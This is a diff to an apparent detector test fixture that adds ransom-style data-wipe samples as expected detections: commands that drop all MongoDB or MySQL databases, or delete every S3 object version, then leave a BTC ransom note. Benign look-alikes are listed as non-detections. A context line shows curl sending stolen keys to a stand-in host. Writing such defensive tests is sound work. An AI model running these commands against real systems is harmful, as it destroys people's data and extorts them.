@@ -69,6 +69,34 @@ export const THEFTS: TextCases = {
       ],
     },
   },
+  script_ransoms_databases: {
+    hits: {
+      'each database of a server': [
+        'javascript',
+        "for (const { name } of dbs) await c.db(name).dropDatabase()\nawait c.db('README').collection('n').insertOne({ t: 'All your data is backed up. You must pay 0.02 BTC to recover it.' })",
+      ],
+      'tables by their language': [
+        'shell',
+        'mysql -h $h -uroot -e "DROP DATABASE $db; CREATE DATABASE README; CREATE TABLE README.n (t TEXT); INSERT INTO README.n VALUES (\'Send 0.05 BTC to get your database back\')"',
+      ],
+      'a bucket with all its versions': [
+        'python',
+        "import boto3\nfor b in boto3.resource('s3').buckets.all():\n  b.object_versions.delete()\n  b.Object('NOTE.txt').put(Body=b'Your files were copied and deleted. Pay 0.1 BTC to recover them.')",
+      ],
+    },
+    misses: {
+      'the database of a test': [
+        'javascript',
+        'after(async () => { await client.db("test").dropDatabase(); await client.close() })',
+      ],
+      'a shop that empties its buckets': [
+        'python',
+        "import boto3\nb = boto3.resource('s3').Bucket('old')\nb.object_versions.delete()\nprint('Saves 12 USD a month')",
+      ],
+      'a note without a deletion': ['shell', 'echo "Send 0.05 BTC to get your database back" > sample-note.txt'],
+      'a migration': ['shell', 'psql -c "DROP DATABASE staging" && createdb staging && pg_restore -d staging dump'],
+    },
+  },
   script_robs_developers: {
     hits: {
       'three kinds of keys posted': ['shell', `${KEYS}curl -s -F f=@/tmp/o https://collect.example/u`],
